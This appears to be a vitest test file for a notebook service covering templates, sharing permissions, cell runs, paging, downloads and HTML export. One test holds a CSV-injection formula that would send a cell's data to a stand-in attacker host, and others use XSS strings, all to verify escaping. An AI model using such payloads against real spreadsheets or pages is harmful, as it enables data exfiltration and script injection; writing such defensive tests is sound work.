import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { queries, type Database } from "@/drizzle";
import { testDatabaseTargets } from "@/drizzle/testing";
import { testServiceDeps, type TestDeps } from "../../cluster/testing";
import { startAudit } from "../audit";
import { startLimits } from "../limits";
import type { NotebooksDeps } from "./deps";
import { startNotebooks, type StartedNotebooks } from "./start";
import { principal, recordingHub, scriptedRunner } from "./testing";
import { ACCESS_CHANGE_QUEUE } from "@/engine/server/contracts";

const alice = principal("alice", "analyst");
const bob = principal("bob", "analyst");
const rita = principal("rita", "reader");

async function waitFor<T>(fn: () => Promise<T | undefined> | T | undefined, ms = 5000): Promise<T> {
  const t0 = Date.now();
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() - t0 > ms) throw new Error("timed out waiting");
    await new Promise((r) => setTimeout(r, 10));
  }
}

const noArtifacts = async (): Promise<{ name: string }> => {
  throw new Error("no artifact repository in this test");
};

for (const target of testDatabaseTargets()) {
  describe(`notebooks service on ${target.name}`, () => {
    let database: Database;
    let svc: StartedNotebooks;
    let deps: Omit<NotebooksDeps, "signal" | "self">;
    let t: TestDeps;
    const hub = recordingHub();
    const dir = mkdtempSync(join(tmpdir(), "talon-nb-templates-"));
    const controller = new AbortController();

    beforeAll(async () => {
      writeFileSync(join(dir, "blank.md"), "---\nname: Blank\n---\n\n```vql\n\n```\n");
      writeFileSync(
        join(dir, "greeting.md"),
        "---\nname: Greeting\ndescription: says hi\nparameters:\n  - name: Greeting\n    type: string\n    default: hello\n    description: what to say\n---\n\n# Hi\n\n```vql\nSELECT * FROM range(end=3)\n```\n",
      );
      database = await target.open();
      t = await testServiceDeps(database);
      const audit = startAudit(t);
      deps = { ...t, audit, limits: startLimits({ ...t, audit }, t.signal), ui: hub, templatesDir: dir, runQuery: scriptedRunner, saveArtifact: noArtifacts, options: { inlineRows: 5, batchRows: 1000 } };
      svc = await startNotebooks(deps, controller.signal);
    });
    afterAll(async () => {
      await svc?.stop();
      await t?.stop();
      await database?.close();
      rmSync(dir, { recursive: true, force: true });
    });

    it("templates() lists the plain-text templates, blank first", async () => {
      expect((await svc.templates()).map((t) => t.id)).toEqual(["blank", "greeting"]);
    });

    it("create() from a template makes its cells and parameters; others see no access", async () => {
      const nb = await svc.create(alice, { name: "", template: "greeting", parameters: { Greeting: "howdy" } });
      expect(nb.name).toBe("Greeting");
      expect(nb.id).toMatch(/^N\./);
      expect(nb.cells.map((c) => [c.type, c.input])).toEqual([
        ["markdown", "# Hi"],
        ["vql", "SELECT * FROM range(end=3)"],
      ]);
      expect(nb.parameters[0]).toMatchObject({ name: "Greeting", value: "howdy" });
      await expect(svc.get(bob, nb.id)).rejects.toThrow(/no access/);
      expect(await svc.canRead(bob, nb.id)).toBe(false);
      const check = hub.authorizers.get("notebook")!;
      expect(await check(alice, `notebook:${nb.id}`)).toBe(true);
      expect(await check(bob, `notebook:${nb.id}`)).toBe(false);
    });

    it("sharing: a collaborator edits, a reader only reads, only the creator changes sharing", async () => {
      const nb = await svc.create(alice, { name: "Shared" });
      await svc.update(alice, nb.id, { collaborators: ["Bob", "rita"] });
      const asBob = await svc.get(bob, nb.id);
      expect(asBob.access).toMatchObject({ canEdit: true, canRun: true, isOwner: false });
      await svc.addCell(bob, nb.id, { type: "markdown", input: "from bob" });
      expect((await svc.get(rita, nb.id)).access.canEdit).toBe(false);
      await expect(svc.addCell(rita, nb.id, { type: "vql" })).rejects.toThrow(/NOTEBOOK_EDITOR/);
      await expect(svc.update(bob, nb.id, { isPublic: true })).rejects.toThrow(/only the notebook's creator/);
      const mine = await svc.list(bob, { scope: "shared" });
      expect(mine.notebooks.map((n) => n.id)).toContain(nb.id);
    });

    it("a sharing change is journaled on Server.Internal.AccessChange with it; other edits are not", async () => {
      const nb = await svc.create(alice, { name: "Access events" });
      const mine = async () => (await t.journal.history(ACCESS_CHANGE_QUEUE, { limit: 1000, oldestFirst: true })).map((e) => e.payload).filter((p) => p.notebookId === nb.id);
      await svc.update(alice, nb.id, { name: "Renamed", description: "no access change" });
      expect(await mine()).toEqual([]);
      await svc.update(alice, nb.id, { collaborators: ["bob"] });
      await svc.update(alice, nb.id, { isPublic: true });
      expect(await mine()).toEqual([
        { kind: "notebook", notebookId: nb.id, reason: "sharing" },
        { kind: "notebook", notebookId: nb.id, reason: "sharing" },
      ]);
    });

    it("runCell() streams rows to viewers, stores them with ordinals, pages, sorts and filters on the server", async () => {
      const nb = await svc.create(alice, { name: "Run", template: "greeting" });
      const cell = nb.cells[1]!;
      const queued = await svc.runCell(alice, nb.id, cell.id, { input: "/* # Numbers */\nSELECT * FROM range(end=2500)\n-- log: done" });
      // A fast run may already be over by the time runCell() returns.
      expect(["queued", "running", "done"]).toContain(queued.status);
      const done = await waitFor(async () => {
        const c = (await svc.get(alice, nb.id)).cells[1]!;
        return c.status === "done" ? c : undefined;
      });
      expect(done.output).toEqual([{ kind: "markdown", text: "# Numbers" }, { kind: "table", table: 0 }]);
      expect(done.tables[0]).toMatchObject({ rowCount: 2500, complete: true, truncated: false, columns: ["_value", "Name", "Env"] });
      expect(done.logs.map((l) => [l.level, l.message, l.at])).toEqual([["INFO", "done", "3:1"]]);
      const streamed = hub.of("rows").filter((m) => m.cellId === cell.id);
      const inline = streamed.flatMap((m) => (m.rows as string[] | undefined) ?? []);
      expect(inline.map((r) => JSON.parse(r)._value)).toEqual([0, 1, 2, 3, 4]);
      expect(JSON.parse(inline[0]!).Env).toBe("hello");
      const tableId = done.tables[0]!.id;
      const page = await svc.rows(alice, nb.id, cell.id, tableId, { offset: 2000, limit: 3 });
      expect(page.rows.map((r) => r.ord)).toEqual([2000, 2001, 2002]);
      expect(JSON.parse(page.rows[0]!.json)).toEqual({ _value: 2000, Name: "host-2000", Env: "hello" });
      const sorted = await svc.rows(alice, nb.id, cell.id, tableId, { offset: 0, limit: 2, sort: { column: "_value", desc: true } });
      expect(sorted.rows.map((r) => JSON.parse(r.json)._value)).toEqual([2499, 2498]);
      const filtered = await svc.rows(alice, nb.id, cell.id, tableId, { offset: 0, limit: 10, filter: { column: "Name", text: "host-249" } });
      expect(filtered.total).toBe(11);
      await expect(svc.rows(alice, nb.id, cell.id, tableId, { offset: 0, limit: 1, sort: { column: "nope", desc: false } })).rejects.toThrow(/no column/);
      await expect(svc.rows(bob, nb.id, cell.id, tableId, { offset: 0, limit: 1 })).rejects.toThrow(/no access/);

      const csv = await svc.download(alice, nb.id, cell.id, tableId, "csv", {});
      let text = "";
      for await (const chunk of csv.body) text += chunk;
      const lines = text.trimEnd().split("\r\n");
      expect(lines[0]).toBe("_value,Name,Env");
      expect(lines.length).toBe(2501);
      expect(lines[2500]).toBe("2499,host-2499,hello");
      const json = await svc.download(alice, nb.id, cell.id, tableId, "json", { filter: { text: "host-7" } });
      let jtext = "";
      for await (const chunk of json.body) jtext += chunk;
      expect((JSON.parse(jtext) as { _value: number }[]).length).toBe(1 + 10 + 100);
      // Each download is audited with the rows it sent: the filtered count, not the table's size.
      const audited = await queries.listAudit(database.db, { limit: 2, operation: "DownloadTable" });
      expect(audited.map((a) => a.details)).toEqual([
        expect.objectContaining({ format: "json", rows: 111, complete: true, filter: { text: "host-7" } }),
        expect.objectContaining({ format: "csv", rows: 2500, complete: true }),
      ]);
      // One stopped after its first part: what it had sent, incomplete.
      const partial = await svc.download(alice, nb.id, cell.id, tableId, "csv", {});
      const it = partial.body[Symbol.asyncIterator]();
      await it.next();
      await it.next();
      await it.return?.();
      const [stopped] = await queries.listAudit(database.db, { limit: 1, operation: "DownloadTable" });
      expect(stopped?.details).toMatchObject({ format: "csv", rows: 2500, complete: false });
    });

    it("a CSV download shows formula-like cells as text (CSV injection)", async () => {
      const formula = '=HYPERLINK("http://attacker.invalid/?"&A1,"details")';
      const nb = await svc.create(alice, { name: "", template: "greeting", parameters: { Greeting: formula } });
      const cell = nb.cells.find((c) => c.input.includes("range"))!;
      await svc.runCell(alice, nb.id, cell.id, { input: "SELECT * FROM range(end=2)" });
      const done = await waitFor(async () => {
        const c = (await svc.get(alice, nb.id)).cells.find((x) => x.id === cell.id)!;
        return c.status === "done" ? c : undefined;
      });
      const csv = await svc.download(alice, nb.id, cell.id, done.tables[0]!.id, "csv", {});
      let text = "";
      for await (const chunk of csv.body) text += chunk;
      expect(text.split("\r\n").slice(0, 2)).toEqual(["_value,Name,Env", `0,host-0,"'=HYPERLINK(""http://attacker.invalid/?""&A1,""details"")"`]);
    });

    it("a NUL in a notebook's name or description is stored as U+FFFD, not a failed insert (the XSS corpus's `java\\0script`)", async () => {
      const nb = await svc.create(alice, { name: "nul\u0000name", description: '<a href="java\u0000script:x">nul</a>' });
      expect(nb).toMatchObject({ name: "nul\uFFFDname", description: '<a href="java\uFFFDscript:x">nul</a>' });
      await svc.update(alice, nb.id, { name: "again\u0000", description: "d\u0000" });
      expect(await svc.get(alice, nb.id)).toMatchObject({ name: "again\uFFFD", description: "d\uFFFD" });
    });

    it("a result past the row cap is marked truncated and says so", async () => {
      const nb = await svc.create(alice, { name: "Cap" });
      await svc.update(alice, nb.id, { settings: { maxRows: 10 } });
      const cell = nb.cells[0]!;
      await svc.runCell(alice, nb.id, cell.id, { input: "SELECT * FROM range(end=50)" });
      const done = await waitFor(async () => {
        const c = (await svc.get(alice, nb.id)).cells[0]!;
        return c.status === "done" ? c : undefined;
      });
      expect(done.tables[0]).toMatchObject({ rowCount: 10, truncated: true });
      expect(done.logs.some((l) => l.level === "WARN" && /row cap/.test(l.message))).toBe(true);
    });

    it("cancelCell() stops a running cell; a timeout ends one as timeout; rows already stored stay", async () => {
      const nb = await svc.create(alice, { name: "Cancel" });
      const cell = nb.cells[0]!;
      await svc.runCell(alice, nb.id, cell.id, { input: "SELECT * FROM range(end=3)\nSELECT * FROM sleep()" });
      await waitFor(async () => ((await svc.get(alice, nb.id)).cells[0]!.status === "running" ? true : undefined));
      await new Promise((r) => setTimeout(r, 100));
      const t0 = Date.now();
      await svc.cancelCell(alice, nb.id, cell.id);
      expect(Date.now() - t0).toBeLessThan(2000);
      const c = (await svc.get(alice, nb.id)).cells[0]!;
      expect(c.status).toBe("cancelled");
      expect(c.error).toMatch(/^Cancelled after/);
      expect(c.tables[0]?.rowCount).toBe(3);
      // The first SELECT ended; the one cancelled while it waited did not.
      expect(c.tables.map((t) => t.complete)).toEqual([true, false]);
      await expect(svc.cancelCell(alice, nb.id, cell.id)).rejects.toThrow(/not running/);

      await svc.update(alice, nb.id, { settings: { timeoutSeconds: 1 } });
      await svc.runCell(alice, nb.id, cell.id, { input: "SELECT * FROM sleep()" });
      const timedOut = await waitFor(async () => {
        const x = (await svc.get(alice, nb.id)).cells[0]!;
        return x.status === "timeout" ? x : undefined;
      });
      expect(timedOut.error).toMatch(/timed out after 1s/);
    });

    it("a cell stopped mid-SELECT keeps its stored rows and its table is marked incomplete", async () => {
      // Seen: `complete: true` with 164,608 of 2,000,000 rows after an interrupted run.
      const nb = await svc.create(alice, { name: "Interrupted" });
      const cell = nb.cells[0]!;
      // Cancel as soon as the first batch is stored (the viewers' "rows" message says so). From
      // inside publish(): an embedded database's writes may never yield to timers.
      const publish = hub.publish;
      const cancelled = new Promise<void>((resolve, reject) => {
        hub.publish = (topic, message) => {
          publish(topic, message);
          if (message.type === "rows" && message.cellId === cell.id) {
            hub.publish = publish;
            svc.cancelCell(alice, nb.id, cell.id).then(resolve, reject);
          }
        };
      });
      await svc.runCell(alice, nb.id, cell.id, { input: "SELECT * FROM range(end=2000000)" });
      await cancelled;
      const c = (await svc.get(alice, nb.id)).cells[0]!;
      expect(c.status).toBe("cancelled");
      const t = c.tables[0]!;
      expect(t.rowCount).toBeGreaterThan(0);
      expect(t.rowCount).toBeLessThan(2_000_000);
      expect(t.complete).toBe(false);
      const page = await svc.rows(alice, nb.id, cell.id, t.id, { offset: 0, limit: 1 });
      expect(page.complete).toBe(false);
      expect(page.total).toBe(t.rowCount);
      const last = hub.of("rows").filter((m) => m.cellId === cell.id).at(-1) as { table: { complete: boolean } };
      expect(last.table.complete).toBe(false);
    });

    it("a syntax error is reported at line:col and nothing runs", async () => {
      const nb = await svc.create(alice, { name: "Broken" });
      await svc.runCell(alice, nb.id, nb.cells[0]!.id, { input: "SELECT * FROM info()\nSELECT FROM" });
      const c = await waitFor(async () => {
        const x = (await svc.get(alice, nb.id)).cells[0]!;
        return x.status === "error" ? x : undefined;
      });
      expect(c.error).toMatch(/^line 2:\d+: /);
      expect(c.tables).toEqual([]);
    });

    it("revertCell() undoes an unsaved edit back to the last version and redoes it", async () => {
      const nb = await svc.create(alice, { name: "Undo" });
      const id = nb.cells[0]!.id;
      await svc.saveCell(alice, nb.id, id, { input: "SELECT 1 FROM scope()" });
      const undone = await svc.revertCell(alice, nb.id, id, -1, "SELECT 2 FROM scope()");
      expect(undone.input).toBe("SELECT 1 FROM scope()");
      const redone = await svc.revertCell(alice, nb.id, id, 1);
      expect(redone.input).toBe("SELECT 2 FROM scope()");
      await expect(svc.revertCell(alice, nb.id, id, 1)).rejects.toThrow(/nothing to redo/);
      const back = await svc.revertCell(alice, nb.id, id, -1);
      expect(back.input).toBe("SELECT 1 FROM scope()");
      expect(back.versions.length).toBe(3);
    });

    it("a NUL character in cell text (which PostgreSQL text cannot hold) is stored as U+FFFD", async () => {
      const nb = await svc.create(alice, { name: "Nul" });
      const saved = await svc.saveCell(alice, nb.id, nb.cells[0]!.id, { input: "[a](java\u0000script:x)", type: "markdown" });
      expect(saved.input).toBe("[a](java\uFFFDscript:x)");
      const added = await svc.addCell(alice, nb.id, { type: "vql", input: "SELECT '\u0000' FROM scope()" });
      expect(added.input).toBe("SELECT '\uFFFD' FROM scope()");
      const imported = await svc.importText(alice, "---\nname: Imported nul\n---\n\nText \u0000 here\n");
      expect(imported.cells[0]!.input).toBe("Text \uFFFD here");
    });

    it("cells are added at a position, moved and deleted, and viewers hear of each", async () => {
      const nb = await svc.create(alice, { name: "Order" });
      const a = nb.cells[0]!.id;
      const b = (await svc.addCell(alice, nb.id, { type: "markdown", input: "B" })).id;
      const c = (await svc.addCell(alice, nb.id, { type: "markdown", input: "C", position: 0 })).id;
      expect((await svc.get(alice, nb.id)).cells.map((x) => x.id)).toEqual([c, a, b]);
      expect(await svc.moveCell(alice, nb.id, c, 2)).toEqual([a, b, c]);
      await svc.deleteCell(alice, nb.id, b);
      expect((await svc.get(alice, nb.id)).cells.map((x) => x.id)).toEqual([a, c]);
      const events = hub.published.filter((p) => p.topic === `notebook:${nb.id}`).map((p) => p.message.type);
      expect(events).toEqual(expect.arrayContaining(["cells", "cell", "cell-deleted"]));
    });

    it("exportText() and importText() round-trip; exportHtml() is self-contained and escapes values", async () => {
      const nb = await svc.create(alice, { name: "Export", template: "greeting" });
      await svc.addCell(alice, nb.id, { type: "markdown", input: "<script>alert(1)</script>" });
      await svc.runCell(alice, nb.id, nb.cells[1]!.id, {});
      await waitFor(async () => ((await svc.get(alice, nb.id)).cells[1]!.status === "done" ? true : undefined));
      const { text } = await svc.exportText(alice, nb.id);
      const copy = await svc.importText(bob, text);
      expect(copy.creator).toBe("bob");
      expect(copy.cells.map((c) => c.input)).toEqual(["# Hi", "SELECT * FROM range(end=3)", "<script>alert(1)</script>"]);
      const { html } = await svc.exportHtml(alice, nb.id);
      expect(html).not.toMatch(/<script/i);
      expect(html).toContain("&lt;script&gt;");
      expect(html).toContain("<td>host-2</td>");
      expect(html).not.toMatch(/(src|href)="https?:/);
      await expect(svc.importText(alice, "```vql\nSELECT")).rejects.toThrow(/line 1/);
    });

    it("copy() and remove(): a copy belongs to its maker; only the creator deletes", async () => {
      const nb = await svc.create(alice, { name: "Orig", template: "greeting", isPublic: true });
      const copy = await svc.copy(bob, nb.id);
      expect(copy).toMatchObject({ name: "Copy of Orig", creator: "bob", isPublic: false });
      await expect(svc.remove(bob, nb.id)).rejects.toThrow(/only the notebook's creator/);
      await svc.remove(alice, nb.id);
      await expect(svc.get(alice, nb.id)).rejects.toThrow(/no notebook/);
    });

    it("a start marks runs of processes that are gone as interrupted, and leaves a live process's runs alone", async () => {
      const gone = await svc.create(alice, { name: "Crash" });
      const live = await svc.create(alice, { name: "Still running elsewhere" });
      const goneCell = await queries.getCellWithCurrent(database.db, (await svc.get(alice, gone.id)).cells[0]!.id);
      const liveCell = await queries.getCellWithCurrent(database.db, (await svc.get(alice, live.id)).cells[0]!.id);
      await queries.updateVersionRun(database.db, goneCell.version.id, { status: "running", runOwner: "P.0000000000000dead" });
      await queries.updateVersionRun(database.db, liveCell.version.id, { status: "running", runOwner: t.node.nodeId });
      const again = await startNotebooks(deps, controller.signal);
      expect((await again.get(alice, gone.id)).cells[0]!.status).toBe("interrupted");
      expect((await again.get(alice, live.id)).cells[0]!.status).toBe("running");
      await queries.updateVersionRun(database.db, liveCell.version.id, { status: "done" });
      await again.stop();
    });
  });
}
